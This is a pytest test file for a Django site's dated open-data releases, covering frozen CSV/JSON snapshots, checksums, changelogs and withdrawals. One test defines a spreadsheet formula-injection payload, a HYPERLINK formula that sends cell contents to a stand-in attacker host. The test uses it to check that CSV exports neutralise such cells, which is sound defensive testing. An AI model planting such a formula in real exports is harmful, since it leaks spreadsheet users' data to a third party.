"""Open-data releases: dated snapshots a report can cite, as a reader and an operator meet them."""

from __future__ import annotations

import csv
import datetime
import hashlib
import io
import json
import re

import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone

from anonymity.members import make_members_only
from base.csv import csv_text
from impact.figures import OPEN_DATA_FIELDS
from impact.models import OpenDataRelease
from impact.releases import make_release
from tests.factories import CaseStudyPageFactory, MetricDefinitionFactory, MetricResultFactory
from tests.factories import publish as publish_page
from tests.reading import response_bytes

pytestmark = pytest.mark.django_db

NEW_YEAR = datetime.date(2026, 1, 1)


def story_with_results(title, *results, metric):
    page = publish_page(CaseStudyPageFactory(title=title))
    made = [
        MetricResultFactory(page=page, metric=metric, baseline=0, result=value, precision="exact")
        for value in results
    ]
    publish_page(page)
    return page, made


@pytest.fixture
def metric():
    return MetricDefinitionFactory(name="Workers reached", unit="workers")


def release_command() -> str:
    out = io.StringIO()
    call_command("release_open_data", stdout=out)
    return out.getvalue()


def csv_rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode())))


def test_a_release_freezes_the_open_data_and_later_changes_do_not_touch_it(client, metric):
    page, [first, second] = story_with_results("Case study fees", 100, 200, metric=metric)
    live_csv = response_bytes(client.get("/data/metric-results.csv"))
    live_json = json.loads(response_bytes(client.get("/data/metric-results.json")))

    release = make_release(NEW_YEAR).release

    frozen = client.get("/data/releases/2026-01-01/metric-results.csv")
    assert frozen.status_code == 200
    assert frozen["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="metric-results-2026-01-01.csv"' in frozen["Content-Disposition"]
    assert frozen.content == live_csv, "a release holds exactly the live file of its day"
    frozen_json = client.get("/data/releases/2026-01-01/metric-results.json")
    assert frozen_json["Content-Type"] == "application/json"
    assert frozen_json.json()["results"] == live_json["results"]
    assert frozen_json.json()["release"] == "2026-01-01"
    assert {r["result_id"] for r in csv_rows(frozen.content)} == {str(first.pk), str(second.pk)}

    first.result = 150
    first.save()
    publish_page(page)
    assert client.get("/data/releases/2026-01-01/metric-results.csv").content == live_csv
    assert response_bytes(client.get("/data/metric-results.csv")) != live_csv
    with pytest.raises(ValueError, match="immutable"):
        release.save()


def test_releases_page_lists_checksums_and_a_changelog(client, metric):
    kept, [changed, unchanged] = story_with_results("Case study kept", 100, 200, metric=metric)
    hidden, [removed] = story_with_results("Case study hidden later", 300, metric=metric)
    make_release(NEW_YEAR)

    changed.result = 125
    changed.save()
    publish_page(kept)
    make_members_only(hidden)
    _, [added] = story_with_results("Case study new", 400, metric=metric)
    output = release_command()

    today = timezone.localdate()
    assert f"Released the open data of {today:%Y-%m-%d}" in output
    assert "1 added, 1 changed, 1 removed (3 rows)" in output

    html = client.get("/data/releases/").content.decode()
    assert html.index(f"release-{today:%Y-%m-%d}") < html.index("release-2026-01-01")
    assert "First release: 3 rows." in html
    assert "Since 2026-01-01: 1 added, 1 changed, 1 removed (3 rows)." in html
    assert re.search(rf'data-changes="added">result_id {added.pk}<', html)
    assert f"result_id {changed.pk}: change, result" in html
    assert re.search(rf'data-changes="removed">result_id {removed.pk}<', html)
    assert f"result_id {unchanged.pk}" not in html
    assert "Case study hidden later" not in html

    for day in ["2026-01-01", f"{today:%Y-%m-%d}"]:
        section = html[html.index(f'id="release-{day}"') :]
        for fmt in ["csv", "json"]:
            body = client.get(f"/data/releases/{day}/metric-results.{fmt}").content
            listed = re.search(rf'data-sha256="{fmt}">([0-9a-f]{{64}})<', section)[1]
            assert listed == hashlib.sha256(body).hexdigest(), (day, fmt)

    today_rows = csv_rows(client.get(f"/data/releases/{today:%Y-%m-%d}/metric-results.csv").content)
    assert "Case study hidden later" not in {r["case_study_title"] for r in today_rows}
    assert {r["result_id"] for r in today_rows} == {
        str(changed.pk),
        str(unchanged.pk),
        str(added.pk),
    }


def test_a_second_run_the_same_day_says_so_and_changes_nothing(client, metric):
    page, [result] = story_with_results("Case study fees", 100, metric=metric)
    release_command()
    before = OpenDataRelease.objects.get()
    result.result = 999
    result.save()
    publish_page(page)

    output = release_command()

    assert "already exists; nothing was changed" in output
    after = OpenDataRelease.objects.get()
    assert (after.pk, after.json_text, after.csv_sha256) == (
        before.pk,
        before.json_text,
        before.csv_sha256,
    )
    assert (
        "999"
        not in client.get(
            f"/data/releases/{after.date:%Y-%m-%d}/metric-results.csv"
        ).content.decode()
    )


def test_no_release_yet_and_unknown_dates_or_files_are_404(client, metric):
    assert "No release has been made yet." in client.get("/data/releases/").content.decode()
    story_with_results("Case study fees", 100, metric=metric)
    make_release(NEW_YEAR)
    for address in [
        "/data/releases/2026-01-02/metric-results.csv",
        "/data/releases/2026-13-01/metric-results.csv",
        "/data/releases/yesterday/metric-results.json",
        "/data/releases/2026-01-01/metric-results.xlsx",
    ]:
        assert client.get(address).status_code == 404, address


def test_data_dictionary_points_to_releases_and_documents_result_id(client):
    html = client.get("/data/").content.decode()
    assert 'href="/data/releases/"' in html
    assert "<code>result_id</code>" in html


def test_release_command_has_help(capsys):
    with pytest.raises(SystemExit):
        call_command("release_open_data", "--help")
    assert "At most one release a day" in " ".join(capsys.readouterr().out.split())


def test_a_new_release_shows_on_the_listing_at_once(client, metric):
    story_with_results("Case study fees", 100, metric=metric)
    assert "No release has been made yet." in client.get("/data/releases/").content.decode()
    assert "No release has been made yet." in client.get("/data/releases/").content.decode()

    release_command()

    html = client.get("/data/releases/").content.decode()
    assert "First release: 1 rows." in html


def test_a_withdrawn_release_keeps_its_entry_but_its_files_are_gone(client, metric):
    story_with_results("Case study fees", 100, metric=metric)
    release = make_release(NEW_YEAR).release
    client.get("/data/releases/")

    with pytest.raises(CommandError, match="Say why"):
        call_command("release_open_data", "--withdraw", "2026-01-01")
    with pytest.raises(CommandError, match="no release of 2026-01-02"):
        call_command("release_open_data", "--withdraw", "2026-01-02", "--reason", "x")
    out = io.StringIO()
    call_command(
        "release_open_data",
        "--withdraw",
        "2026-01-01",
        "--reason",
        "A story in it identified its company.",
        stdout=out,
    )

    assert "410 Gone" in out.getvalue()
    for fmt in ["csv", "json"]:
        response = client.get(f"/data/releases/2026-01-01/metric-results.{fmt}")
        assert response.status_code == 410
        assert "identified its company" in response.content.decode()
        assert "Case study fees" not in response.content.decode()
    html = client.get("/data/releases/").content.decode()
    assert "Withdrawn on" in html and "A story in it identified its company." in html
    assert release.csv_sha256 in html
    assert OpenDataRelease.objects.get().csv_text == ""


def test_after_a_withdrawal_the_next_changelog_is_against_the_last_release_still_held(metric):
    page, [first] = story_with_results("Case study fees", 100, metric=metric)
    make_release(datetime.date(2026, 1, 1))
    _, [second] = story_with_results("Case study more", 200, metric=metric)
    make_release(datetime.date(2026, 1, 2))
    call_command("release_open_data", "--withdraw", "2026-01-02", "--reason", "Taken down.")

    release = make_release(datetime.date(2026, 1, 3)).release

    assert release.previous.date == datetime.date(2026, 1, 1)
    assert release.changes == {"added": [str(second.pk)], "changed": [], "removed": []}


FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Read the full story")'


def test_no_csv_cell_runs_as_a_spreadsheet_formula_and_numbers_keep_their_sign(client, metric):
    page = publish_page(CaseStudyPageFactory(title=FORMULA))
    MetricResultFactory(page=page, metric=metric, baseline=0, result=-12.5, precision="exact")
    publish_page(page)
    make_release(NEW_YEAR)

    for address in ["/data/metric-results.csv", "/data/releases/2026-01-01/metric-results.csv"]:
        [row] = csv_rows(response_bytes(client.get(address)))
        assert row["case_study_title"] == "'" + FORMULA, address
        # Negative figures are numbers, not formulas: they are written as they are.
        assert float(row["result"]) == -12.5 and float(row["change"]) == -12.5, address
    # JSON is not opened by spreadsheets: the title is exactly as published there.
    [result] = json.loads(response_bytes(client.get("/data/metric-results.json")))["results"]
    assert result["case_study_title"] == FORMULA
    html = client.get("/data/").content.decode()
    assert "written with a single quote in front" in html


def test_frozen_files_are_written_byte_for_byte_as_before(client, metric):
    """Written row by row now, a release's files keep the exact bytes of one ``json.dumps``
    (indented by one) and of the whole-file CSV writer, so checksums stay comparable."""
    story_with_results("Case study fees — repaid in €", 100, -12.5, metric=metric)
    story_with_results("Case study wages", 300, metric=metric)
    make_release(NEW_YEAR)

    body = client.get("/data/releases/2026-01-01/metric-results.json").content
    document = json.loads(body)
    assert list(document) == ["dictionary", "release", "note", "count", "results"]
    assert document["count"] == len(document["results"]) == 3
    assert body == json.dumps(document, ensure_ascii=False, indent=1).encode()
    fields = [name for name, _ in OPEN_DATA_FIELDS]
    csv_body = client.get("/data/releases/2026-01-01/metric-results.csv").content
    assert csv_body == csv_text(fields, document["results"]).encode()
